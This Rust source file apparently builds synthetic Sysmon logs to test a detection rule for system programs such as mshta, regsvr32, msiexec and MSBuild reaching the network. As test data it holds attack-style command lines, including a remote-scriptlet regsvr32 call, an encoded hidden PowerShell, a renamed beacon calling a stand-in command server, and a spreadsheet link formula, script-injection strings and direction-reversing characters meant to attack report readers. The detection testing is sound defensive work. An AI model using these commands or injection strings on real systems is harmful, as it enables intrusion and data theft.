//! Stories about what programs do: which starts and connections count for the built-in rule. Each leaves one healthy log.

use crate::synth::story::{Expected, Scene, Story};
use crate::synth::sysmon::Process;
use crate::sysmon::schema::Layout;

const MSHTA: &str = r"C:\Windows\System32\mshta.exe";
const MSIEXEC: &str = r"C:\Windows\System32\msiexec.exe";
const MSBUILD: &str = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe";

fn story(
    name: &'static str,
    folder: &str,
    tells: &'static str,
    mut scene: Scene,
    findings: Vec<Expected>,
) -> Story {
    scene.noise(6);
    Story { name, tells, files: vec![scene.live_log(&format!("{name}/{folder}"))], findings }
}

pub(super) fn mshta() -> Story {
    let mut scene = Scene::new("ws01.corp.example", 1, Layout::Sysmon13, "2024-03-04T09:12:00Z", 48_213);
    scene.noise(8);
    let shell = scene.machine.explorer();
    let console = scene.start_under(&shell, r"C:\Windows\System32\cmd.exe", r"cmd.exe /c start invoice.hta");
    scene.wait(180);
    let actor = scene.start_under(
        &console.process,
        MSHTA,
        r#"mshta.exe "C:\Users\alice\Downloads\invoice.hta" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}"#,
    );
    scene.noise(3);
    let finding = scene.connect(&actor, "203.0.113.10", 443);
    scene.noise(4);
    scene.wait(61_000);
    scene.connect(&actor, "203.0.113.10", 443);
    let tells = "cmd.exe starts mshta.exe, which connects to 203.0.113.10 a moment later, and again a minute after. The first connection \
                 completes the sequence and uses up the start; the second belongs to the same process's story and is no finding of its own.";
    story("mshta", "ws01.corp.example", tells, scene, vec![finding])
}

pub(super) fn regsvr32() -> Story {
    let mut scene = Scene::new("ws02.corp.example", 2, Layout::Sysmon13, "2024-03-04T10:40:00Z", 7_120);
    scene.noise(7);
    let actor = scene.start(
        r"C:\Windows\SysWOW64\regsvr32.exe",
        "regsvr32.exe /s /n /u /i:https://cdn.example.net/a.sct scrobj.dll",
    );
    scene.wait(420);
    let finding = scene.query(&actor, "cdn.example.net", "type:  5 edge.example.net;::ffff:198.51.100.7;");
    scene.noise(4);
    let tells = "regsvr32.exe asks for cdn.example.net; its connection was not logged. The DNS query alone completes the sequence.";
    story("regsvr32-dns", "ws02.corp.example", tells, scene, vec![finding])
}

pub(super) fn msiexec() -> Story {
    let mut scene = Scene::new("ws03.corp.example", 3, Layout::Sysmon13, "2024-03-05T08:01:00Z", 90_001);
    scene.noise(4);
    let install = |scene: &mut Scene| {
        scene.wait(4_000);
        scene.start(MSIEXEC, r"msiexec.exe /i C:\Users\alice\Downloads\setup.msi /qn")
    };
    for excluded in [
        "ocsp.digicert.com",
        "OCSP.Sectigo.com",
        "printer.local",
        "ctldl.windowsupdate.com",
        "ws03.corp.example",
    ] {
        let actor = install(&mut scene);
        scene.wait(700);
        scene.query(&actor, excluded, "::ffff:203.0.113.90;");
    }
    for excluded in ["127.0.0.1", "192.229.211.108"] {
        let actor = install(&mut scene);
        scene.wait(900);
        scene.connect(&actor, excluded, 80);
    }
    let outside = install(&mut scene);
    scene.wait(1_100);
    let found = scene.query(&outside, "packages.example.org", "::ffff:203.0.113.41;");
    let through = install(&mut scene);
    scene.wait(300);
    scene.query(&through, "ocsp.digicert.com", "::ffff:203.0.113.40;");
    scene.wait(200);
    let resolved = scene.connect(&through, "203.0.113.40", 80);
    let tells = "Nine msiexec.exe. Five ask only for names the rule excludes (two certificate services, a .local name, the update list, the host \
                 itself), two connect only to addresses it excludes: none of them counts. The eighth asks for packages.example.org: found. The \
                 ninth asks for an excluded name and then connects to the address it resolved to: the connection has no name, so it is found.";
    story("msiexec", "ws03.corp.example", tells, scene, vec![found, resolved])
}

pub(super) fn msbuild() -> Story {
    let mut scene = Scene::new("dev04.corp.example", 4, Layout::Sysmon12, "2024-03-05T14:22:00Z", 310_555);
    scene.noise(5);
    let build = |scene: &mut Scene| {
        scene.wait(2_500);
        scene.start(MSBUILD, r#""MSBuild.exe" C:\src\app\app.csproj /m /nodeReuse:true"#)
    };
    let quiet = build(&mut scene);
    scene.wait(500);
    scene.connect(&quiet, "127.0.0.1", 49_777);
    let outside = build(&mut scene);
    scene.wait(1_400);
    let found = scene.connect(&outside, "198.51.100.23", 443);
    let loopback6 = build(&mut scene);
    scene.wait(350);
    let found6 = scene.connect(&loopback6, "0:0:0:0:0:0:0:1", 49_778);
    let tells = "Three MSBuild.exe. The first connects to 127.0.0.1 only: excluded. The second connects to 198.51.100.23: found. The third \
                 connects to ::1, which the rule's exclusion of 127.0.0.1 does not cover: found.";
    story("msbuild", "dev04.corp.example", tells, scene, vec![found, found6])
}

pub(super) fn wscript() -> Story {
    let mut scene = Scene::new("ws05.corp.example", 5, Layout::Sysmon13, "2024-03-06T11:00:00Z", 15_800);
    scene.noise(6);
    let actor = scene
        .start(r"C:\Windows\System32\wscript.exe", r#"wscript.exe "C:\Users\alice\Downloads\order.vbs""#);
    scene.wait(800);
    scene.query(&actor, "drop.example.org", "::ffff:203.0.113.61;");
    scene.wait(100);
    scene.connect(&actor, "203.0.113.61", 443);
    let tells = "wscript.exe starts, asks for a name and connects. The rule lists it among the starts but not among the network programs, so \
                 nothing is found: a near miss.";
    story("wscript", "ws05.corp.example", tells, scene, Vec::new())
}

pub(super) fn maxspan() -> Story {
    let mut scene = Scene::new("ws06.corp.example", 6, Layout::Sysmon13, "2024-03-06T13:30:00Z", 2_004);
    scene.noise(5);
    let in_time = scene.start(r"C:\Windows\System32\cmstp.exe", r"cmstp.exe /s C:\Users\alice\vpn.inf");
    scene.wait(1_000);
    let late =
        scene.start(r"C:\Windows\System32\odbcconf.exe", r"odbcconf.exe /a {REGSVR C:\Users\alice\a.dll}");
    scene.noise(5);
    scene.since_start(&in_time, 300_000);
    let found = scene.connect(&in_time, "203.0.113.70", 443);
    scene.since_start(&late, 300_001);
    scene.connect(&late, "203.0.113.70", 443);
    let tells = "cmstp.exe connects exactly 300.000 s after its start: found, the span is inclusive. odbcconf.exe connects 300.001 s after its \
                 own: not found. Both by either clock.";
    story("maxspan", "ws06.corp.example", tells, scene, vec![found])
}

/// The story with a past and an aftermath: what a report can tell of one finding.
pub(super) fn beacon() -> Story {
    let mut scene = Scene::new("ws18.corp.example", 18, Layout::Sysmon15, "2024-03-12T07:45:00Z", 610_000);
    scene.noise(5);
    let hidden = ancestry(&mut scene);
    scene.wait(900);
    let mut renamed = scene.machine.process(
        r"C:\Users\alice\AppData\Local\Temp\regsvr32.exe",
        r"C:\Users\alice\AppData\Local\Temp\regsvr32.exe -k",
        r"EXAMPLE\alice",
        Some(&hidden),
    );
    renamed.original_name = Some("beacon.exe");
    let actor = scene.start_process(renamed);
    scene.wait(1_500);
    let finding = scene.query(&actor, "c2.example.net", "::ffff:203.0.113.200;");
    for _ in 0..400 {
        scene.connect(&actor, "203.0.113.200", 8443);
        scene.wait(60_000);
    }
    scene.start_under(&actor.process, r"C:\Windows\System32\whoami.exe", "whoami /all");
    let tells = "OUTLOOK.EXE, WINWORD.EXE, cmd.exe, a powershell.exe whose start is not in the log, and a program called regsvr32.exe whose \
                 original name is beacon.exe. It asks for c2.example.net (found), then connects 400 times, once a minute, and starts whoami.exe.";
    story("beacon", "ws18.corp.example", tells, scene, vec![finding])
}

/// Mail, document, console, and a PowerShell whose start is not in the log: the ancestry has a hole there.
fn ancestry(scene: &mut Scene) -> Process {
    let shell = scene.machine.explorer();
    let mail = scene.start_under(
        &shell,
        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
        r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE""#,
    );
    scene.wait(40_000);
    let word = scene.start_under(
        &mail.process,
        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
        r#""WINWORD.EXE" /n "C:\Users\alice\AppData\Local\Temp\offer.docm""#,
    );
    scene.wait(6_000);
    let console =
        scene.start_under(&word.process, r"C:\Windows\System32\cmd.exe", r"cmd.exe /c %TEMP%\u.bat");
    scene.machine.process(
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgA",
        r"EXAMPLE\alice",
        Some(&console.process),
    )
}

pub(super) fn hostile_text() -> Story {
    let mut scene = Scene::new("ws17.corp.example", 17, Layout::Sysmon13, "2024-03-11T16:05:00Z", 5_150);
    scene.noise(3);
    let formula = scene.start(MSHTA, r#"=HYPERLINK("http://example.invalid/?x="&A1,"open")"#);
    scene.wait(600);
    let first = scene.connect(&formula, "203.0.113.31", 443);
    let markup = scene.start(
        r#"C:\Users\Public\<img src=x onerror=alert(1)>\mshta.exe"#,
        r#"mshta.exe "</script><script>alert(document.domain)</script>" &amp; '"#,
    );
    scene.wait(600);
    let second = scene.query(&markup, "<b>.example.org", "type:  5 =1+1;::ffff:203.0.113.32;");
    let unicode = scene.start(MSHTA, "mshta.exe \u{202e}fdp.ecioni \u{1f4a5} e\u{301}\u{200b}\u{feff}");
    scene.wait(600);
    let third = scene.connect(&unicode, "203.0.113.33", 443);
    let tells = "Three mshta.exe with text meant to attack whoever reads the report: a spreadsheet formula, HTML and script, right-to-left and \
                 zero-width characters. All three are found, and no output may be broken by them.";
    story("hostile-text", "ws17.corp.example", tells, scene, vec![first, second, third])
}
